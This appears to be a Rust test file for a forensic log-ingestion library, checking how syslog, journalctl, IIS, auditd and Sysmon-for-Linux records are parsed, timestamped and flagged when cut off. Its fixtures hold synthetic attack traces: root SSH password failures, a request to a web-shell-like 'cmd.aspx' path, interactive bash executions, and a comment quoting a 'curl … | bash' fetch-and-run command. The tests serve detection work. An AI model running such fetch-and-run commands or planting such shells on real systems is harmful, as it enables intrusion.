    // A collection-layout hint (the triage folder's host) beats the address.
    let hinted = read_mem(&IisW3c, "u_ex240501.log", data.as_bytes());
    assert_eq!(hinted.events[0].host.as_deref(), Some("hint-host"));
    // The server's name wins when logged.
    assert_eq!(c.events[1].host.as_deref(), Some("WEB01"));
}

/// Syslog lines whose time is RFC 5424's `-` or an ISO time without a zone
/// are syslog all the same: host, program and the auth fields are read
/// (they were "not a syslog line", raw text, and an SSH failure rule
/// missed them).
#[test]
fn nil_and_zoneless_syslog_times_keep_the_header() {
    let text = "<34>1 - web01 sshd 2213 - - Failed password for root from 198.51.100.4 port 22 ssh2\n\
                2026-03-01T10:00:01 h2 sshd[5]: Failed password for root from 192.0.2.9 port 3 ssh2\n\
                2026-03-01T10:00:02.250 h2 sshd[5]: Failed password for root from 192.0.2.9 port 3 ssh2\n";
    let c = read_mem(
        &Syslog::default()
            .with_reference(kahu_event::parse_timestamp("2026-06-01T00:00:00Z").unwrap()),
        "messages",
        text.as_bytes(),
    );
    assert_eq!(c.events.len(), 3);
    for e in &c.events {
        assert_eq!(e.channel.as_deref(), Some("auth"), "{e:?}");
        assert_eq!(e.provider.as_deref(), Some("sshd"), "{e:?}");
    }
    assert_eq!(c.events[0].host.as_deref(), Some("web01"));
    assert_eq!(c.events[0].timestamp, None);
    assert_eq!(
        c.events[1].timestamp.map(|t| t.to_rfc3339()).as_deref(),
        Some("2026-03-01T10:00:01+00:00")
    );
    let w: Vec<&str> = c.warnings.iter().map(|w| w.reason.as_str()).collect();
    assert!(!w.iter().any(|r| r.contains("not a syslog line")), "{w:?}");
    assert!(
        w.iter().any(|r| r.contains("no timestamp (RFC 5424 `-`")),
        "{w:?}"
    );
}

/// Sysmon for Linux XML cut by syslog's message size limit was read as a
/// whole event without a word; the half value at the cut was kept too.
#[test]
fn a_cut_off_sysmon_record_is_read_with_a_warning_and_no_half_value() {
    let original = std::fs::read_to_string(fixture("sysmon_linux.log")).unwrap();
    let first = original.lines().next().unwrap();
    // Cut inside the value of the second Data element.
    let second = first
        .match_indices("<Data Name=")
        .nth(1)
        .map(|(i, _)| i)
        .unwrap();
    let gt = first[second..].find('>').unwrap() + second + 1;
    let cut = format!("{}\n", &first[..gt + 2]);
    let c = read_mem(&Syslog::default(), "syslog", cut.as_bytes());
    assert_eq!(c.events.len(), 1, "{:?}", c.warnings);
    assert!(
        c.warnings
            .iter()
            .any(|w| w.reason.starts_with("Sysmon for Linux XML is cut off")),
        "{:?}",
        c.warnings
    );
    let whole = read_mem(
        &Syslog::default(),
        "syslog",
        format!("{first}\n").as_bytes(),
    );
    // The first Data value is kept; the second, cut, is not.
    let second_name = first[second + 12..].split('"').next().unwrap().to_string();
    assert!(
        c.events[0].fields.get(&second_name).is_none(),
        "{:?}",
        c.events[0].fields
    );
    assert!(whole.events[0].fields.get(&second_name).is_some());
}

/// `User` names an account or is absent: the numeric `uid` of a plain
/// (not ENRICHED) record became `User: "0"` through the case-insensitive
/// field lookup, and reached accounts-to-reset as an account named "0".
#[test]
fn auditd_user_is_an_account_name_never_a_bare_uid() {
    let rec = |serial: u32, uid: u32, enriched: &str| {
        format!(
            "type=SYSCALL msg=audit(1795873860.100:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={serial} auid=1001 uid={uid} gid={uid} euid={uid} comm=\"bash\" exe=\"/usr/bin/bash\" key=\"x\"{enriched}\n\
             type=EXECVE msg=audit(1795873860.100:{serial}): argc=2 a0=\"bash\" a1=\"-i\"\n"
        )
    };
    let text = [
        rec(9001, 0, ""),
        rec(9002, 1002, ""),
        rec(
            9003,
            1002,
            "\u{1d}AUID=\"deploy\" UID=\"sysupd\" GID=\"sysupd\"",
        ),
    ]
    .concat();
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("audit.log");
    std::fs::write(&p, text).unwrap();
    let c = read_file(&Auditd, &p);
    let user = |serial: u64| {
        let e = c
            .events
            .iter()
            .find(|e| e.get("serial") == Some(&Value::UInt(serial)))
            .unwrap_or_else(|| panic!("record {serial}: {:?}", c.warnings));
        s(e, "User")
    };
    assert_eq!(user(9001).as_deref(), Some("root"));
    assert_eq!(user(9002), None, "uid 1002 names no account");
    assert_eq!(user(9003).as_deref(), Some("sysupd"));
}

/// `journalctl -o short-iso` prints the basic offset `+0000` (systemd 239
/// on RHEL 8, 245 on Ubuntu 20.04) and `-- … --` marker lines: the whole
/// export was "no reader recognises this file's format; skipped".
#[test]
fn journalctl_short_iso_with_a_basic_offset_is_read() {
    let text = "-- Journal begins at Sun 2026-11-01 00:00:01 UTC, ends at Sun 2026-11-29 00:00:00 UTC. --\n\
                2026-11-28T14:12:00+0000 web02 sudo[2270]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id\n\
                -- Boot 3f2a6c0d5e8b4f0e9a1b2c3d4e5f6a7b --\n\
                2026-11-29T03:13:00.250+1300 web02 sshd[2290]: Accepted password for root from 185.191.171.12 port 41000 ssh2\n";
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("journal.txt");
    std::fs::write(&p, text).unwrap();
    assert_eq!(detected(&p), "syslog");
    let c = read_file(&Syslog::default(), &p);
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    let times: Vec<String> = c
        .events
        .iter()
        .map(|e| e.timestamp.map(|t| t.to_rfc3339()).unwrap_or_default())
        .collect();
    // 03:13:00.250 at +13:00 is 14:13:00.250 UTC the day before.
    assert_eq!(
        times,
        ["2026-11-28T14:12:00+00:00", "2026-11-28T14:13:00.250+00:00"]
    );
    assert!(c.events.iter().all(|e| e.host.as_deref() == Some("web02")));
}

/// IIS behind a proxy logs the client in `cs(X-Forwarded-For)` (W3C writes
/// spaces as `+`): its left-most address is `forwarded-client`.
#[test]
fn iis_x_forwarded_for_names_the_client() {
    let text = "#Software: Microsoft Internet Information Services 10.0\n\
                #Fields: date time s-ip cs-method cs-uri-stem c-ip cs(X-Forwarded-For) sc-status\n\
                2026-11-28 14:41:09 10.0.0.5 GET /aspnet_client/cmd.aspx 45.60.12.34 203.0.113.50,+45.60.12.1 200\n";
    let c = read_mem(&IisW3c, "u_ex261128.log", text.as_bytes());
    assert_eq!(c.events.len(), 1, "{:?}", c.warnings);
    assert_eq!(
        s(&c.events[0], "forwarded-client").as_deref(),
        Some("203.0.113.50")
    );
}

/// A log copied while it was written ends mid-line: the probe's audit.log
/// ended in `type=EXECVE … argc=3 a0="bash"` (the command was `bash -c
/// "curl … | bash"`) and auth.log in `Failed password for invali`. Both
/// were read as complete records with no word. Now the file's cut last
/// line is reported with its byte offset, and an EXECVE with fewer
/// arguments than its `argc` is reported and marked `truncated`; complete
/// files and records get no such warning.
#[test]
fn a_cut_last_line_and_a_cut_execve_are_reported() {
    let whole = "type=SYSCALL msg=audit(1795873860.100:4502): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4502 auid=1001 uid=0 gid=0 euid=0 comm=\"id\" exe=\"/usr/bin/id\" key=\"x\"\n\
                 type=EXECVE msg=audit(1795873860.100:4502): argc=1 a0=\"id\"\n";
    let cut_record = "type=SYSCALL msg=audit(1795874160.611:4503): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4503 auid=1001 uid=0 gid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"x\"\n\
                      type=EXECVE msg=audit(1795874160.611:4503): argc=3 a0=\"bash\"";
    let dir = tempfile::tempdir().unwrap();
    let cut = dir.path().join("cut");
    let fine = dir.path().join("fine");
    std::fs::create_dir_all(&cut).unwrap();
    std::fs::create_dir_all(&fine).unwrap();
    std::fs::write(cut.join("audit.log"), format!("{whole}{cut_record}")).unwrap();
    std::fs::write(
        cut.join("auth.log"),
        "Jan  2 06:25:00 web01 sshd[103]: Accepted publickey for alice from 10.0.1.15 port 50000 ssh2\n\
         Jan  2 06:25:01 web01 sshd[104]: Failed password for invali",
    )
    .unwrap();
    std::fs::write(
        fine.join("audit.log"),
        format!("{whole}{cut_record}\n").replace("argc=3", "argc=1"),
    )
    .unwrap();

    let mut c = Collect::default();
    kahu_ingest::Reader::new().read_path(&cut, &mut c).unwrap();
    let warned = |file: &str, needle: &str| {
        c.warnings
            .iter()
            .filter(|w| w.file.ends_with(file) && w.reason.contains(needle))
            .map(|w| w.location)
            .collect::<Vec<_>>()
    };
    // The last line starts right after the file's last newline.
    let audit_text = format!("{whole}{cut_record}");
    let audit_at = audit_text.rfind('\n').unwrap() as u64 + 1;
    assert_eq!(
        warned("audit.log", "ends without a newline"),
        [Some(Location::Offset(audit_at))]
    );
    let auth_text = std::fs::read_to_string(cut.join("auth.log")).unwrap();
    let auth_at = auth_text.rfind('\n').unwrap() as u64 + 1;
    assert_eq!(
        warned("auth.log", "ends without a newline"),
        [Some(Location::Offset(auth_at))]
    );
    // Record 4503 starts on line 3; it names 3 arguments and holds 1.
    assert_eq!(
        warned("audit.log", "argc=3 but 1 argument(s)"),
        [Some(Location::Line(3))]
    );
    let cut_event = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(4503)))
        .unwrap();
    assert_eq!(cut_event.get("truncated"), Some(&Value::Bool(true)));
    let whole_event = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(4502)))
        .unwrap();
    assert_eq!(whole_event.get("truncated"), None);

    let mut c = Collect::default();
    kahu_ingest::Reader::new().read_path(&fine, &mut c).unwrap();
    assert!(
        !c.warnings
            .iter()
            .any(|w| w.reason.contains("newline") || w.reason.contains("argc")),
        "{:?}",
        c.warnings
    );
    assert_eq!(c.events.len(), 2);
}
